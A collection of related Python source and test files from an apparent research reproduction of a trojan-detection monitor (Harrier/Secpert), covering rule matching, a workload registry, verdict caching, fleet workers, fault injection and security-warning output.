@dataclass(frozen=True)
class P:
    """A predicate constraint: ``P(lambda value, bindings: ...)``.

    One-argument callables are also accepted (value only); arity is
    resolved at construction from the callable's signature.
    """

    fn: Callable[..., bool]

    def __post_init__(self) -> None:
        object.__setattr__(self, "_arity", _predicate_arity(self.fn))

    def check(self, value: Any, bindings: Bindings) -> bool:
        arity = self._arity
        if arity == 2:
            return bool(self.fn(value, bindings))
        if arity == 1:
            return bool(self.fn(value))
        # Signature unavailable: probe, accepting the legacy ambiguity.
        try:
            return bool(self.fn(value, bindings))
        except TypeError:
            return bool(self.fn(value))


class Pattern:
    """Match a fact of ``template`` with per-slot constraints.

    ``bind_as`` binds the whole fact to a name (CLIPS ``?f <- (...)``),
    so actions can retract it.
    """

    def __init__(
        self,
        template: str,
        bind_as: Optional[str] = None,
        **constraints: Any,
    ) -> None:
        self.template = template
        self.bind_as = bind_as
        self.constraints = constraints

    def match(self, fact: Fact, bindings: Bindings) -> Optional[Bindings]:
        """Return extended bindings when ``fact`` matches, else None."""
        if fact.name != self.template:
            return None
        new_bindings: Optional[Bindings] = None

        def ensure() -> Bindings:
            nonlocal new_bindings
            if new_bindings is None:
                new_bindings = dict(bindings)
            return new_bindings

        for slot, constraint in self.constraints.items():
            if slot not in fact.template.slots:
                return None
            value = fact.values[slot]
            if isinstance(constraint, V):
                scope = new_bindings if new_bindings is not None else bindings
                if constraint.name in scope:
                    if scope[constraint.name] != value:
                        return None
                else:
                    ensure()[constraint.name] = value
            elif isinstance(constraint, P):
                scope = new_bindings if new_bindings is not None else bindings
                if not constraint.check(value, scope):
                    return None
            else:  # literal
                if value != constraint:
                    return None
        result = new_bindings if new_bindings is not None else dict(bindings)
        if self.bind_as is not None:
            result = dict(result)
            result[self.bind_as] = fact
        return result

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return f"Pattern({self.template!r}, {self.constraints})"


@dataclass(frozen=True)
class Test:
    """Predicate over the bindings (no fact consumed)."""

    # Tell pytest this production-system class is not a test-case class.
    __test__ = False

    fn: Callable[[Bindings], bool]

    def holds(self, bindings: Bindings) -> bool:
        return bool(self.fn(bindings))


@dataclass(frozen=True)
class Not:
    """Negation as failure over one pattern."""

    pattern: Pattern

    def holds(self, facts: Iterable[Fact], bindings: Bindings) -> bool:
        for fact in facts:
            if self.pattern.match(fact, bindings) is not None:
                return False
        return True


ConditionalElement = Any  # Pattern | Test | Not


def match_lhs(
    lhs: List[ConditionalElement], facts: List[Fact]
) -> List[Dict[str, Any]]:
    """All (bindings, matched-fact) combinations satisfying ``lhs``.

    Returns a list of dicts with keys ``bindings`` and ``facts`` (the
    Pattern-matched facts, in LHS order).
    """
    results: List[Dict[str, Any]] = []

    def extend(index: int, bindings: Bindings, matched: List[Fact]) -> None:
        if index == len(lhs):
            results.append({"bindings": bindings, "facts": list(matched)})
            return
        element = lhs[index]
        if isinstance(element, Pattern):
            for fact in facts:
                extended = element.match(fact, bindings)
                if extended is not None:
                    matched.append(fact)
                    extend(index + 1, extended, matched)
                    matched.pop()
        elif isinstance(element, Test):
            if element.holds(bindings):
                extend(index + 1, bindings, matched)
        elif isinstance(element, Not):
            if element.holds(facts, bindings):
                extend(index + 1, bindings, matched)
        else:
            raise TypeError(f"bad conditional element {element!r}")

    extend(0, {}, [])
    return results
