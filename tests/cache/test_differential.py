"""The warm-cache differential: cached replies are bit-identical.

The tentpole acceptance property, held across the paper's full
62-workload matrix: a verdict served from cache must be
indistinguishable — ``to_dict()``, rendered warnings with evidence,
verdict, exit — from executing the run, in serial sessions and across
fleet workers sharing one on-disk store.
"""

import json

from repro.api import Session, VerdictCache
from repro.fleet import run_fleet, workload_refs


def _dump(report) -> str:
    return json.dumps(report.to_dict(), sort_keys=True, default=str)


class TestSerialDifferential:
    def test_all_62_workloads_hit_bit_identically(self):
        refs = workload_refs(None)
        assert len(refs) == 62
        session = Session(cache=VerdictCache())
        fresh = {}
        for ref in refs:
            workload = ref.resolve()
            fresh[ref.name, ref.module] = (
                workload, session.run_workload(workload)
            )
        assert session.cache.stats.misses == len(refs)
        assert session.cache.stats.hits == 0

        for (name, module), (workload, fresh_report) in fresh.items():
            hit = session.run_workload(workload)
            assert _dump(hit) == _dump(fresh_report), \
                f"{module}/{name}: cached reply differs from execution"
            # Evidence trails render identically too (provenance rides
            # inside the report and must survive the pickle round trip).
            assert hit.render_warnings() == fresh_report.render_warnings()
            assert [str(e) for e in hit.events] == \
                [str(e) for e in fresh_report.events]
        assert session.cache.stats.hits == len(refs)

    def test_cached_replies_match_an_uncached_session(self):
        # A second, independent uncached session agrees with the hits.
        refs = workload_refs(["4"])
        cached = Session(cache=VerdictCache())
        plain = Session()
        for ref in refs:
            workload = ref.resolve()
            cached.run_workload(workload)  # populate
            hit = cached.run_workload(workload)  # hit
            baseline = plain.run_workload(workload)
            assert _dump(hit) == _dump(baseline), ref.name
        assert cached.cache.stats.hits == len(refs)


class TestFleetDifferential:
    def test_shared_store_warm_sweep_is_bit_identical(self, tmp_path):
        refs = workload_refs(["4", "8"])
        store = str(tmp_path / "cache")
        cold = run_fleet(refs, workers=2, cache_dir=store)
        warm = run_fleet(refs, workers=3, shard_by="cluster",
                         cache_dir=store)
        plain = run_fleet(refs, workers=2)

        assert cold.cache_stats["misses"] == len(refs)
        assert cold.cache_stats["stores"] == len(refs)
        assert warm.cache_stats["hits"] == len(refs)
        assert warm.cache_stats["misses"] == 0
        assert plain.cache_stats is None

        by_name = lambda fleet: {  # noqa: E731
            r.name: json.dumps(r.report, sort_keys=True, default=str)
            for r in fleet.runs
        }
        assert by_name(cold) == by_name(warm) == by_name(plain)

    def test_fleet_report_wire_shape_carries_cache(self, tmp_path):
        refs = workload_refs(["4"])
        fleet = run_fleet(refs, workers=2,
                          cache_dir=str(tmp_path / "c"))
        wire = fleet.to_dict()
        assert wire["cache"]["workers"] == 2
        assert wire["cache"]["hit_rate"] == 0.0
        # And the merge is deterministic: run again warm.
        warm = run_fleet(refs, workers=2, cache_dir=str(tmp_path / "c"))
        assert warm.to_dict()["cache"]["hits"] == len(refs)
