"""Section 8.4 — macro benchmarks: pwsafe (+trojan), mw2.2.1 (+forking
script, dataflow off), Ultra Tic Tac Toe (+trojan)."""

from benchmarks.harness import (
    assert_all_match,
    emit_classification_table,
    once,
    run_workloads,
)
from repro.programs.macro.registry import macro_workloads


def bench_macro_benchmarks(benchmark):
    results = once(benchmark, lambda: run_workloads(macro_workloads()))
    emit_classification_table(
        "Section 8.4: Macro benchmarks (clean vs trojaned pairs)",
        "macro_benchmarks.txt",
        results,
    )
    assert_all_match(results)
