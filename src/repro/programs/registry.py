"""The unified workload registry: one lookup API over every table.

Historically three parallel ``registry.py`` modules (exploits, macro,
trusted) plus the micro/extension/scenario factories each exposed their
own entry point, and callers (CLI ``repro table``, fleet refs, tests,
benchmarks) hard-coded which module held which rows.  This module is the
single source of truth:

* :data:`REGISTRIES` maps every registry key to its ``(module, factory)``
  pair — the picklable coordinates fleet :class:`~repro.fleet.refs.
  WorkloadRef`\\ s resolve through;
* :func:`get` / :func:`find` / :func:`entries` give name- and tag-based
  lookup over all registries at once (``find(tags={"trojan", "table8"})``);
* tags are derived, never declared: the registry key (``table4`` ...
  ``scenarios``), the group (``micro`` / ``exploit`` / ``trusted`` ...),
  the expectation (``trojan`` / ``benign`` + the verdict name), and
  ``xfail`` for filed-but-unfixed evasions.

The old import paths (``repro.programs.exploits.registry`` and friends)
keep working as thin aliases of their factories, but new code — the
adversarial mutator included — should resolve workloads through here.
"""

from __future__ import annotations

import importlib
from typing import (
    Dict, FrozenSet, Iterable, Iterator, List, Optional, Sequence, Tuple,
)

from repro.programs.base import Workload

#: Registry key -> (module, factory) for every evaluation registry: the
#: paper's Tables 4-8, the macro benchmarks (§8.4), the trusted-extension
#: rows, the end-to-end scenarios (62 workloads in total), plus the
#: adversarial findings registry (filed evasions + regression rows).
REGISTRIES: Dict[str, Tuple[str, str]] = {
    "4": ("repro.programs.micro.execflow", "table4_workloads"),
    "5": ("repro.programs.micro.resource", "table5_workloads"),
    "6": ("repro.programs.micro.infoflow", "table6_workloads"),
    "7": ("repro.programs.trusted.registry", "table7_workloads"),
    "8": ("repro.programs.exploits.registry", "table8_workloads"),
    "macro": ("repro.programs.macro.registry", "macro_workloads"),
    "ext": ("repro.programs.extensions", "extension_workloads"),
    "scenarios": ("repro.programs.scenarios", "scenario_workloads"),
    "adversarial": ("repro.programs.adversarial", "adversarial_workloads"),
}

#: Registry traversal order for "run everything" sweeps (matches
#: ``repro report``).  The adversarial registry is deliberately *not*
#: part of the default sweep: its xfail rows document open evasions and
#: would fail a correctness gate by design — select it explicitly with
#: ``keys=("adversarial",)`` or ``find(tags={"adversarial"})``.
REGISTRY_ORDER: Tuple[str, ...] = (
    "4", "5", "6", "7", "8", "macro", "ext", "scenarios"
)

#: Key -> group tag (the second axis of tag-based lookup).
_GROUPS: Dict[str, str] = {
    "4": "micro",
    "5": "micro",
    "6": "micro",
    "7": "trusted",
    "8": "exploit",
    "macro": "macro",
    "ext": "extension",
    "scenarios": "scenario",
    "adversarial": "adversarial",
}


def registry_workloads(key: str) -> List[Workload]:
    """All rows of one registry, freshly built."""
    module_name, factory_name = REGISTRIES[key]
    module = importlib.import_module(module_name)
    return list(getattr(module, factory_name)())


def workload_tags(key: str, workload: Workload) -> FrozenSet[str]:
    """The derived tag set of one registry row."""
    tags = {
        f"table{key}" if key.isdigit() else key,
        _GROUPS.get(key, key),
        "trojan" if workload.expected_verdict.flagged else "benign",
        workload.expected_verdict.value,
    }
    if workload.xfail:
        tags.add("xfail")
    return frozenset(tags)


def entries(
    keys: Optional[Sequence[str]] = None,
) -> Iterator[Tuple[str, Workload]]:
    """Yield ``(registry key, workload)`` over the named registries, in
    registry order then row order (all of :data:`REGISTRY_ORDER` by
    default)."""
    for key in keys if keys is not None else REGISTRY_ORDER:
        for workload in registry_workloads(key):
            yield key, workload


def workloads(keys: Optional[Sequence[str]] = None) -> List[Workload]:
    return [w for _, w in entries(keys)]


def names(keys: Optional[Sequence[str]] = None) -> List[str]:
    return [w.name for _, w in entries(keys)]


def get(name: str, keys: Optional[Sequence[str]] = None) -> Workload:
    """The unique registry row called ``name`` (searches the adversarial
    registry too when ``keys`` is not narrowed)."""
    search = tuple(keys) if keys is not None else (
        REGISTRY_ORDER + ("adversarial",)
    )
    for _, workload in entries(search):
        if workload.name == name:
            return workload
    raise LookupError(
        f"no workload named {name!r} in registries {', '.join(search)}"
    )


def registry_of(name: str) -> str:
    """The registry key holding the row called ``name``."""
    for key, workload in entries(REGISTRY_ORDER + ("adversarial",)):
        if workload.name == name:
            return key
    raise LookupError(f"no workload named {name!r}")


def find(
    tags: Iterable[str],
    keys: Optional[Sequence[str]] = None,
) -> List[Workload]:
    """All rows carrying *every* tag in ``tags``.

    ``find(tags={"trojan", "table8"})`` is the seven real exploits;
    ``find(tags={"benign"}, keys=("7",))`` the false-positive study.
    Searches the adversarial registry as well unless ``keys`` narrows
    the scope.
    """
    wanted = frozenset(tags)
    search = tuple(keys) if keys is not None else (
        REGISTRY_ORDER + ("adversarial",)
    )
    return [
        workload
        for key, workload in entries(search)
        if wanted <= workload_tags(key, workload)
    ]
