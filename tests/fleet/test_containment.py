"""Dead-worker containment and graceful fleet shutdown, end to end.

Containment: a worker that ``os._exit``s mid-task (a real process
death — no Python unwinding, no sentinel) must cost only its unfinished
tasks: the coordinator synthesizes error records for them, keeps every
other record, preserves task-index order, and returns without hanging.

Graceful shutdown: a drain request (signal or programmatic stop event)
mid-sweep must still produce a complete, ordered, schema-versioned
FleetReport — in-flight tasks finish, skipped tasks surface as
``cancelled`` records, and ``partial=True``.
"""

import os
import signal
import threading
import time

import pytest

from repro.core.options import RunOptions
from repro.fleet import WorkloadRef, make_tasks, run_fleet
from tests.fleet.crashers import CRASH_EXIT_CODE, SLEEP_SECONDS

CRASHERS = [
    WorkloadRef("tests.fleet.crashers", "crasher_workloads", name)
    for name in ("ok-before", "worker-killer", "ok-after")
]


def _sleepy_refs(count=6):
    return [
        WorkloadRef("tests.fleet.crashers", "sleepy_workloads", f"sleepy-{i}")
        for i in range(count)
    ]


class TestDeadWorkerContainment:
    @pytest.fixture(scope="class")
    def fleet(self):
        # One worker owns the whole shard: the crash also strands
        # 'ok-after', exercising multi-task record synthesis.
        return run_fleet(CRASHERS, workers=2, shard_by="chunk")

    def test_no_hang_and_no_lost_tasks(self, fleet):
        assert [r.index for r in fleet.runs] == [0, 1, 2]
        assert [r.name for r in fleet.runs] == [
            "ok-before", "worker-killer", "ok-after"
        ]

    def test_crash_synthesizes_error_records(self, fleet):
        killer = fleet.runs[1]
        assert killer.failed
        assert f"exit code {CRASH_EXIT_CODE}" in killer.error
        assert killer.report is None

    def test_stranded_shardmate_also_contained(self, fleet):
        # chunk sharding puts ok-before+worker-killer on worker 0; the
        # crash happens before ok-after's worker is affected — ok-after
        # lives on worker 1 and must be fine, while any task stranded
        # behind the crash on worker 0 gets a synthesized record.
        ok_before, killer, ok_after = fleet.runs
        assert killer.worker == ok_before.worker  # chunk: [0,1] | [2]
        assert not ok_before.failed
        assert ok_before.report["verdict"] == "benign"
        assert not ok_after.failed

    def test_fleet_completes_with_verdicts_for_survivors(self, fleet):
        assert not fleet.partial
        survivors = [r for r in fleet.runs if not r.failed]
        assert {r.report["verdict"] for r in survivors} == {"benign"}

    def test_interleave_isolates_the_crash(self):
        # interleave over 2 workers: worker 0 gets [ok-before, ok-after],
        # worker 1 gets [worker-killer] alone — only the killer's record
        # is synthesized, nothing else is collateral damage.
        fleet = run_fleet(CRASHERS, workers=2, shard_by="interleave")
        by_name = {r.name: r for r in fleet.runs}
        assert by_name["worker-killer"].failed
        assert not by_name["ok-before"].failed
        assert not by_name["ok-after"].failed


class TestGracefulShutdown:
    def test_preset_stop_event_cancels_everything(self):
        import multiprocessing

        stop = multiprocessing.get_context(
            "fork" if "fork" in multiprocessing.get_all_start_methods()
            else "spawn"
        ).Event()
        stop.set()
        fleet = run_fleet(_sleepy_refs(4), workers=2, stop_event=stop)
        assert fleet.partial
        assert [r.index for r in fleet.runs] == [0, 1, 2, 3]
        assert all(r.cancelled for r in fleet.runs)
        data = fleet.to_dict()
        assert data["schema_version"] == 2
        assert data["partial"] is True
        assert data["summary"]["cancelled"] == 4

    def test_sigint_mid_sweep_drains_and_reports(self):
        # A real SIGINT to our own pid while the fleet is mid-sweep:
        # the in-flight tasks finish, the rest come back cancelled, and
        # run_fleet returns a partial report instead of raising
        # KeyboardInterrupt mid-merge.
        refs = _sleepy_refs(6)
        timer = threading.Timer(
            SLEEP_SECONDS * 1.5, os.kill, (os.getpid(), signal.SIGINT)
        )
        timer.start()
        try:
            fleet = run_fleet(refs, workers=2, shard_by="chunk")
        finally:
            timer.cancel()
        assert fleet.partial
        assert [r.index for r in fleet.runs] == list(range(6))
        finished = [r for r in fleet.runs if not r.failed]
        cancelled = [r for r in fleet.runs if r.cancelled]
        assert len(finished) + len(cancelled) == 6
        assert finished, "in-flight tasks should have been drained"
        assert cancelled, "later tasks should have been cancelled"
        # drain restored the previous SIGINT handler
        assert signal.getsignal(signal.SIGINT) is not None

    def test_serial_path_honors_stop_event(self):
        stop = threading.Event()
        refs = _sleepy_refs(3)

        # Flip the stop event from a watcher thread once the sweep is
        # underway; serial mode checks it between tasks.
        flipper = threading.Timer(SLEEP_SECONDS / 2, stop.set)
        flipper.start()
        try:
            fleet = run_fleet(refs, workers=1, stop_event=stop)
        finally:
            flipper.cancel()
        assert fleet.partial
        assert len(fleet.runs) == 3
        assert fleet.runs[0].report is not None      # finished in-flight
        assert fleet.runs[-1].cancelled              # drained
