"""Analysis-side interface Harrier reports to (Figure 1's right half).

Secpert implements :class:`EventAnalyzer`; tests can plug in simpler
collectors.  ``analyze`` returns the warnings the event provoked, and the
monitor's decision policy (modelling the paper's interactive user) chooses
whether execution may continue.
"""

from __future__ import annotations

from typing import Callable, List, Sequence

from repro.harrier.events import SecurityEvent


class EventAnalyzer:
    """Base analyzer: observes events, raises no warnings."""

    def analyze(self, event: SecurityEvent) -> Sequence[object]:
        """Process one event; returns warnings (opaque to Harrier)."""
        return ()


class CollectingAnalyzer(EventAnalyzer):
    """Keeps every event (useful for tests and trace inspection)."""

    def __init__(self) -> None:
        self.events: List[SecurityEvent] = []

    def analyze(self, event: SecurityEvent) -> Sequence[object]:
        self.events.append(event)
        return ()


#: Decision callback: warning -> True to continue, False to kill the
#: process.  Models the paper's "the user makes his decision to continue
#: or kill the application".
DecisionPolicy = Callable[[object], bool]


def always_continue(warning: object) -> bool:
    return True


def always_kill(warning: object) -> bool:
    return False
