"""Deterministic fault injection for the HTH stack.

A :class:`FaultInjector` sits at the kernel boundary and perturbs a run —
transient syscall stalls, guest-visible errno faults, socket resets, DNS
failures, scheduler quantum jitter — all derived from one integer seed, so
any chaos failure reproduces bit-for-bit from the seed recorded in the
:class:`~repro.core.report.RunReport`.

See ``docs/robustness.md`` for the fault model and the determinism
contract.
"""

from repro.faultinject.plan import (
    FaultKind,
    FaultProfile,
    InjectedFault,
    SEMANTIC_PROFILE,
    TRANSPARENT_PROFILE,
)
from repro.faultinject.injector import FaultInjector
from repro.faultinject.harness import (
    ChaosResult,
    ChaosTrial,
    chaos_seeds,
    run_chaos,
    run_chaos_suite,
    run_one,
)
from repro.faultinject.daemon import (
    ChaosMonkey,
    DaemonChaosProfile,
    ServeChaosOutcome,
    ServeChaosResult,
    run_serve_chaos,
)

__all__ = [
    "ChaosMonkey",
    "DaemonChaosProfile",
    "ServeChaosOutcome",
    "ServeChaosResult",
    "run_serve_chaos",
    "FaultKind",
    "FaultProfile",
    "InjectedFault",
    "FaultInjector",
    "TRANSPARENT_PROFILE",
    "SEMANTIC_PROFILE",
    "ChaosResult",
    "ChaosTrial",
    "chaos_seeds",
    "run_chaos",
    "run_chaos_suite",
    "run_one",
]
