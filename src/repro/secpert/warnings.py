"""Warnings and the warning sink (Secpert's advice channel).

Severity levels follow paper section 4: Low / Medium / High, graded by
confidence that the observed behavior is actually malicious.  Warning text
mimics the paper's output format, e.g.::

    Warning [HIGH] Found Write call to .exrc%
    The Data written to this file is originated from the
    BINARY:("/proj/.../a.out")
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Dict, List, Optional


class Severity(enum.IntEnum):
    LOW = 1
    MEDIUM = 2
    HIGH = 3

    def label(self) -> str:
        return {1: "LOW", 2: "MEDIUM", 3: "HIGH"}[int(self)]


@dataclass(frozen=True)
class SecurityWarning:
    """One piece of Secpert advice to the user."""

    severity: Severity
    rule: str
    headline: str
    details: tuple = ()
    #: The event that triggered it (opaque; a harrier event object).
    event: object = None
    pid: int = 0
    time: int = 0
    #: Provenance evidence (schema-versioned JSON dict, see
    #: :mod:`repro.telemetry.provenance`).  Excluded from equality so the
    #: frozen dataclass stays hashable; still part of ``repr`` so the
    #: differential fingerprints cover it.
    evidence: Optional[dict] = field(default=None, compare=False)

    def render(self) -> str:
        lines = [f"Warning [{self.severity.label()}] {self.headline}"]
        lines.extend(f"\t{d}" for d in self.details)
        return "\n".join(lines)

    def __str__(self) -> str:
        return self.render()


class WarningSink:
    """Collects warnings; queryable by severity/rule for the benchmarks."""

    def __init__(self) -> None:
        self.warnings: List[SecurityWarning] = []

    def add(self, warning: SecurityWarning) -> None:
        self.warnings.append(warning)

    def __len__(self) -> int:
        return len(self.warnings)

    def __iter__(self):
        return iter(self.warnings)

    def by_severity(self, severity: Severity) -> List[SecurityWarning]:
        return [w for w in self.warnings if w.severity is severity]

    def by_rule(self, rule: str) -> List[SecurityWarning]:
        return [w for w in self.warnings if w.rule == rule]

    def max_severity(self) -> Optional[Severity]:
        if not self.warnings:
            return None
        return max(w.severity for w in self.warnings)

    def counts(self) -> Dict[str, int]:
        out = {"LOW": 0, "MEDIUM": 0, "HIGH": 0}
        for w in self.warnings:
            out[w.severity.label()] += 1
        return out

    def render_all(self) -> str:
        return "\n\n".join(w.render() for w in self.warnings)
