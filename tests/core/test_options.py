"""RunOptions: the unified run-configuration object and the end state
of its migration.

The deprecation window is over: the old ``block_cache=`` /
``taint_fastpath=`` boolean kwargs are gone from ``HTH``,
``Workload.run``/``build_machine`` and ``run_monitored``, and
:func:`fold_legacy_flags` now rejects them with a ``TypeError`` naming
the ``options=RunOptions(...)`` replacement.
"""

import pickle

import pytest

from repro.core.hth import HTH, run_monitored
from repro.core.options import (
    DEFAULT_MAX_TICKS,
    RunOptions,
    UNSET,
    fold_legacy_flags,
)
from repro.isa import assemble

SOURCE = """
main:
    mov eax, 0
    ret
"""


def _image():
    return assemble("/bin/t", SOURCE)


class TestRunOptions:
    def test_defaults(self):
        options = RunOptions()
        assert options.block_cache is True
        assert options.taint_fastpath is True
        assert options.max_ticks == DEFAULT_MAX_TICKS
        assert options.wall_timeout is None
        assert not options.wants_telemetry

    def test_frozen(self):
        with pytest.raises(Exception):
            RunOptions().block_cache = False

    def test_picklable(self):
        from repro.faultinject import TRANSPARENT_PROFILE

        options = RunOptions(
            metrics=True, fault_profile=TRANSPARENT_PROFILE, fault_seed=7
        )
        clone = pickle.loads(pickle.dumps(options))
        assert clone == options

    def test_replaced_and_with_faults(self):
        from repro.faultinject import TRANSPARENT_PROFILE

        base = RunOptions()
        assert base.replaced(block_cache=False).block_cache is False
        assert base.replaced(block_cache=False) != base
        chaotic = base.with_faults(TRANSPARENT_PROFILE, 42)
        assert chaotic.fault_profile is TRANSPARENT_PROFILE
        assert chaotic.fault_seed == 42

    def test_make_telemetry_off_by_default(self):
        assert RunOptions().make_telemetry() is None

    def test_make_telemetry_flags(self):
        hub = RunOptions(metrics=True).make_telemetry()
        assert hub.is_enabled
        assert hub.tracer is None and hub.profiler is None
        hub = RunOptions(trace=True, profile=True).make_telemetry()
        assert hub.tracer is not None and hub.profiler is not None

    def test_make_fault_injector_fresh_per_call(self):
        from repro.faultinject import TRANSPARENT_PROFILE

        options = RunOptions(
            fault_profile=TRANSPARENT_PROFILE, fault_seed=3
        )
        a, b = options.make_fault_injector(), options.make_fault_injector()
        assert a is not None and b is not None
        assert a is not b
        assert RunOptions().make_fault_injector() is None


class TestFoldLegacyFlags:
    def test_no_flags_pass_through(self):
        assert fold_legacy_flags("X", None) == RunOptions()
        custom = RunOptions(block_cache=False)
        assert fold_legacy_flags("X", custom) is custom

    def test_legacy_flag_is_an_error(self):
        with pytest.raises(TypeError, match="block_cache"):
            fold_legacy_flags("X", None, block_cache=False)
        with pytest.raises(TypeError, match="taint_fastpath"):
            fold_legacy_flags("X", None, taint_fastpath=True)

    def test_error_names_every_flag_and_the_callsite(self):
        with pytest.raises(TypeError) as excinfo:
            fold_legacy_flags(
                "Workload.run", None,
                block_cache=False, taint_fastpath=False,
            )
        message = str(excinfo.value)
        assert "Workload.run" in message
        assert "block_cache" in message and "taint_fastpath" in message
        assert "options=RunOptions(" in message

    def test_unset_sentinel_is_not_a_flag(self):
        options = fold_legacy_flags(
            "X", RunOptions(block_cache=False),
            block_cache=UNSET, taint_fastpath=UNSET,
        )
        assert options.block_cache is False  # options value preserved


class TestLegacyKwargsRemoved:
    def test_hth_rejects_legacy_kwarg(self):
        with pytest.raises(TypeError):
            HTH(block_cache=False)

    def test_run_monitored_rejects_legacy_kwarg(self):
        with pytest.raises(TypeError):
            run_monitored(_image(), taint_fastpath=False)

    def test_options_equivalent_to_defaults(self):
        explicit = HTH(
            options=RunOptions(block_cache=True, taint_fastpath=True)
        ).run(_image())
        default = HTH().run(_image())
        assert explicit.to_dict() == default.to_dict()

    def test_hth_run_budgets_default_from_options(self):
        spin = assemble("/bin/spin", "main:\nloop:\n    jmp loop\n")
        report = HTH(options=RunOptions(max_ticks=10)).run(spin)
        assert report.result.reason == "max-ticks"
        assert report.result.ticks <= 10
