"""Fault injector tests: seed determinism, stall transparency, semantic
faults (errno / connect reset / resolve failure), jitter, budgets, the
watchdog, and RunReport surfacing."""

from dataclasses import replace

from repro.core import HTH
from repro.faultinject import (
    FaultInjector,
    FaultKind,
    FaultProfile,
    TRANSPARENT_PROFILE,
)
from repro.isa import assemble
from repro.kernel import errors
from repro.kernel.syscalls import SYS_OPEN, SYS_READ, SYS_WRITE


ECHO = """
main:
    mov ebx, 0
    mov ecx, buf
    mov edx, 16
    call read
    mov edx, eax
    mov ebx, 1
    mov ecx, buf
    call write
    mov ebx, done
    call print
    mov eax, 0
    ret
.data
buf: .space 16
done: .asciz "done"
"""

CONNECT = """
main:
    call socket
    mov esi, eax
    mov ebx, name
    call gethostbyname
    cmp eax, 0
    jl nohost
    mov ecx, eax
    mov ebx, esi
    mov edx, 80
    call connect_addr
    cmp eax, 0
    jl refused
    mov ebx, ok
    call print
    mov eax, 0
    ret
nohost:
    mov ebx, nohostmsg
    call print
    mov eax, 0
    ret
refused:
    mov ebx, refusedmsg
    call print
    mov eax, 0
    ret
.data
name: .asciz "srv"
ok: .asciz "connected"
nohostmsg: .asciz "nohost"
refusedmsg: .asciz "refused"
"""

SPIN = "main:\nspin:\n  jmp spin"


def run_echo(fault_injector=None, typed="typed in\n"):
    hth = HTH(fault_injector=fault_injector)
    hth.provide_input(typed)
    return hth.run(assemble("/bin/echo", ECHO))


def run_connect(fault_injector=None):
    from repro.kernel.network import ConversationPeer

    hth = HTH(fault_injector=fault_injector)
    hth.network.add_peer(
        "srv", 80, lambda: ConversationPeer("p", opening=b"hi")
    )
    return hth.run(assemble("/bin/net", CONNECT))


class TestDeterminism:
    def test_same_seed_same_run(self):
        reports = [
            run_echo(FaultInjector(profile=TRANSPARENT_PROFILE, seed=42))
            for _ in range(2)
        ]
        a, b = reports
        assert [str(f) for f in a.injected_faults] == [
            str(f) for f in b.injected_faults
        ]
        assert a.console_output == b.console_output
        assert a.verdict is b.verdict
        assert [e.call_name for e in a.events] == [
            e.call_name for e in b.events
        ]

    def test_seed_recorded_on_injector(self):
        injector = FaultInjector(profile=TRANSPARENT_PROFILE, seed=7)
        assert injector.seed == 7
        assert injector.fault_count == 0


class TestStallTransparency:
    def test_certain_stalls_do_not_change_guest_semantics(self):
        baseline = run_echo()
        profile = replace(TRANSPARENT_PROFILE, stall_rate=1.0,
                          quantum_jitter=0.0)
        injector = FaultInjector(profile=profile, seed=3)
        chaotic = run_echo(injector)
        assert injector.fault_count > 0
        assert all(f.kind is FaultKind.STALL for f in injector.injected)
        assert chaotic.console_output == baseline.console_output
        assert chaotic.exit_code == baseline.exit_code
        assert chaotic.verdict is baseline.verdict
        assert chaotic.result.reason == "all-exited"
        # Each syscall's pre-event fires exactly once (on the attempt),
        # so the observed event stream is identical too.
        assert [e.call_name for e in chaotic.events] == [
            e.call_name for e in baseline.events
        ]


class TestSemanticFaults:
    def test_errno_injection_is_guest_visible(self):
        profile = FaultProfile(
            errno_rate=1.0,
            errno_codes=(errors.EIO,),
            errno_syscalls=frozenset({SYS_READ, SYS_WRITE, SYS_OPEN}),
        )
        injector = FaultInjector(profile=profile, seed=5)
        report = run_echo(injector)
        assert report.result.completed
        # Every read/write failed with -EIO, so nothing reached stdout.
        assert report.console_output == ""
        assert any(
            f.kind is FaultKind.ERRNO and f.detail == "EIO"
            for f in injector.injected
        )

    def test_connect_reset(self):
        assert run_connect().console_output == "connected"
        injector = FaultInjector(
            profile=FaultProfile(connect_reset_rate=1.0), seed=1
        )
        report = run_connect(injector)
        assert report.console_output == "refused"
        assert any(
            f.kind is FaultKind.CONNECT_RESET for f in injector.injected
        )

    def test_resolve_failure(self):
        injector = FaultInjector(
            profile=FaultProfile(resolve_fail_rate=1.0), seed=1
        )
        report = run_connect(injector)
        assert report.console_output == "nohost"
        assert any(
            f.kind is FaultKind.RESOLVE_FAIL for f in injector.injected
        )


class TestQuantumJitter:
    def test_jitter_is_deterministic_and_bounded(self):
        profile = FaultProfile(quantum_jitter=0.5)
        a = FaultInjector(profile=profile, seed=9)
        b = FaultInjector(profile=profile, seed=9)
        quanta = [a.quantum(1000) for _ in range(20)]
        assert quanta == [b.quantum(1000) for _ in range(20)]
        assert all(500 <= q <= 1500 for q in quanta)
        assert len(set(quanta)) > 1

    def test_zero_jitter_passes_base_through(self):
        injector = FaultInjector(profile=FaultProfile(), seed=9)
        assert injector.quantum(1000) == 1000

    def test_jitter_never_returns_zero(self):
        injector = FaultInjector(
            profile=FaultProfile(quantum_jitter=1.0), seed=0
        )
        assert all(injector.quantum(1) >= 1 for _ in range(50))


class TestFaultBudget:
    def test_max_faults_caps_injection(self):
        profile = replace(
            TRANSPARENT_PROFILE, stall_rate=1.0, max_faults=2
        )
        injector = FaultInjector(profile=profile, seed=11)
        report = run_echo(injector)
        assert report.result.completed
        assert injector.fault_count == 2


class TestWatchdog:
    def test_wedged_guest_returns_watchdog_reason(self):
        hth = HTH()
        report = hth.run(
            assemble("/bin/spin", SPIN),
            max_ticks=10**9,
            wall_timeout=0.1,
        )
        assert report.result.reason == "watchdog"
        assert not report.result.completed


class TestReportSurfacing:
    def test_fault_fields_present(self):
        injector = FaultInjector(profile=TRANSPARENT_PROFILE, seed=42)
        report = run_echo(injector)
        assert report.fault_seed == 42
        assert report.injected_faults == injector.injected
        if report.injected_faults:
            assert "chaos seed=42" in report.summary_line()

    def test_fault_fields_absent_without_injector(self):
        report = run_echo()
        assert report.fault_seed is None
        assert report.injected_faults == []
        assert "chaos" not in report.summary_line()

    def test_render_log(self):
        injector = FaultInjector(profile=TRANSPARENT_PROFILE, seed=42)
        assert injector.render_log() == "(no faults injected)"
        run_echo(injector)
        if injector.injected:
            assert "stall" in injector.render_log()
