"""Tests for the section 10 future-work extensions: memory abuse,
executable-download detection, cross-session monitoring, and
simultaneous-session (multi-program) correlation."""

import pytest

from repro.core.report import Verdict
from repro.isa import assemble
